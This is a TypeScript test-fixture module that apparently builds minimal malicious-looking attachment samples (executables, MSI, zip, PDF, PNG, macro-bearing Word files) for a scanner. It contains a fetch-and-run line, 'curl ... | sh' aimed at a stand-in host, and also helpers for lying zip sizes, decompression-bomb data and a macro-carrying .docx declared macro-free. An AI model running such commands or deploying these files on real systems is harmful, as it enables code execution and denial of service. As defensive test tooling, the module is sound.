/**
 * Attachment samples built at run time: the smallest bytes that carry each format's signature, so
 * the repository holds no executable or archive that a scanner or a reviewer would trip over.
 */
import { constants, crc32, deflateRawSync } from 'node:zlib';

/** A Windows PE: the DOS stub's e_lfanew (offset 0x3C) points at "PE\0\0" and a COFF header. */
export function peExecutable(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x014c, 0x84);
  bytes.writeUInt16LE(0x0102, 0x96);
  return bytes;
}

/** A 64-bit little-endian ELF executable header (e_type ET_EXEC, e_machine x86-64). */
export function elfExecutable(): Buffer {
  const bytes = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]).copy(bytes);
  bytes.writeUInt16LE(2, 16);
  bytes.writeUInt16LE(0x3e, 18);
  bytes.writeUInt32LE(1, 20);
  return bytes;
}

/** A 64-bit Mach-O header (MH_MAGIC_64, CPU x86-64, MH_EXECUTE). */
export function machOExecutable(): Buffer {
  const bytes = Buffer.alloc(32);
  bytes.writeUInt32LE(0xfeedfacf, 0);
  bytes.writeUInt32LE(0x01000007, 4);
  bytes.writeUInt32LE(3, 8);
  bytes.writeUInt32LE(2, 12);
  return bytes;
}

/** Root storage CLSID of a Windows Installer package, {000C1084-0000-0000-C000-000000000046}. */
const MSI_CLSID = Buffer.from('84100c0000000000c000000000000046', 'hex');

/**
 * An OLE2 compound file (MS-CFB): header, one FAT sector, one directory sector holding the root
 * entry and the named storages as its children.
 */
export function compoundFile(options: { clsid?: Buffer; storages?: string[] } = {}): Buffer {
  const header = Buffer.alloc(512, 0xff);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(header, 0);
  header.fill(0, 8, 0x4c);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c);
  header.writeUInt32LE(1, 0x30);
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(0xfffffffe, 0x3c);
  header.writeUInt32LE(0xfffffffe, 0x44);
  header.writeUInt32LE(0, 0x4c);
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0);
  fat.writeUInt32LE(0xfffffffe, 4);
  const directory = Buffer.alloc(512);
  const names = ['Root Entry', ...(options.storages ?? [])];
  names.forEach((name, index) => {
    const entry = directory.subarray(index * 128, (index + 1) * 128);
    entry.write(name, 0, 'utf16le');
    entry.writeUInt16LE((name.length + 1) * 2, 0x40);
    entry.writeUInt8(index === 0 ? 5 : 1, 0x42);
    entry.writeUInt32LE(0xffffffff, 0x44);
    entry.writeUInt32LE(index > 0 && index + 1 < names.length ? index + 1 : 0xffffffff, 0x48);
    entry.writeUInt32LE(index === 0 && names.length > 1 ? 1 : 0xffffffff, 0x4c);
    if (index === 0 && options.clsid) options.clsid.copy(entry, 0x50);
    entry.writeUInt32LE(0xfffffffe, 0x74);
  });
  return Buffer.concat([header, fat, directory]);
}

export function msiPackage(): Buffer {
  return compoundFile({ clsid: MSI_CLSID });
}

export function shebangScript(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl -s http://example.invalid/x | sh\n', 'latin1');
}

export function pdfDocument(): Buffer {
  return Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
}

/** A 1x1 grey PNG: signature, IHDR, one IDAT and IEND, each chunk with its CRC (PNG spec 5.3). */
export function pngImage(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const idat = Buffer.from([0x78, 0x9c, 0x63, 0x60, 0x00, 0x00, 0x00, 0x02, 0x00, 0x01]);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', ihdr),
    chunk('IDAT', idat),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export interface ZipMember {
  name: string;
  content?: Buffer;
  /** Ready-made deflate data for the body, for members too large to hold; give declaredSize with it. */
  deflated?: Buffer;
  method?: 'stored' | 'deflate';
  /** Uncompressed size written into both headers; defaults to the true size. Lets a test lie. */
  declaredSize?: number;
  /** General-purpose bit flags (APPNOTE 4.4.4); bit 0 marks an encrypted member. */
  flags?: number;
}

/** A zip archive of local headers, bodies, central directory and end record (APPNOTE 4.3.6). */
export function zipArchive(members: ZipMember[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const member of members) {
    const content = member.content ?? Buffer.alloc(0);
    const stored = member.method === 'stored';
    const body = member.deflated ?? (stored ? content : deflateRawSync(content));
    const name = Buffer.from(member.name, 'utf8');
    const size = member.declaredSize ?? content.length;
    const crc = member.deflated ? 0 : crc32(content);
    const flags = (member.flags ?? 0) | 0x0800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(stored ? 0 : 8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(stored ? 0 : 8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(members.length, 0xffff), 8);
  end.writeUInt16LE(Math.min(members.length, 0xffff), 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * Deflate data that inflates to `bytes` zeros, built without ever holding them: one mebibyte of
 * zeros deflated with a sync flush ends byte-aligned, and every copy of it refers only to zeros, so
 * copies can be chained and closed with an empty final block (RFC 1951 3.2.3).
 */
export function deflatedZeros(bytes: number): Buffer {
  const unit = 1024 * 1024;
  if (bytes % unit !== 0) throw new RangeError('deflatedZeros takes whole mebibytes');
  const block = deflateRawSync(Buffer.alloc(unit), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return Buffer.concat([...Array.from({ length: bytes / unit }, () => block), Buffer.from([0x03, 0x00])]);
}

const WORD_DOCUMENT = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const WORD_MACRO_DOCUMENT = 'application/vnd.ms-word.document.macroEnabled.main+xml';

/**
 * A minimal Word package (ECMA-376 part 2): content types, relationships and body, and optionally a
 * VBA project part, declared macro-enabled (a .docm) or not (a .docx that carries macros anyway).
 */
export function wordDocument(options: { vbaProject: boolean; macroEnabled?: boolean }): Buffer {
  const main = (options.macroEnabled ?? options.vbaProject) ? WORD_MACRO_DOCUMENT : WORD_DOCUMENT;
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    `<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
  const members: ZipMember[] = [
    { name: '[Content_Types].xml', content: Buffer.from(contentTypes) },
    { name: '_rels/.rels', content: Buffer.from('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>') },
    { name: 'word/document.xml', content: Buffer.from('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>') },
  ];
  if (options.vbaProject) members.push({ name: 'word/vbaProject.bin', content: compoundFile({ storages: ['VBA'] }) });
  return zipArchive(members);
}
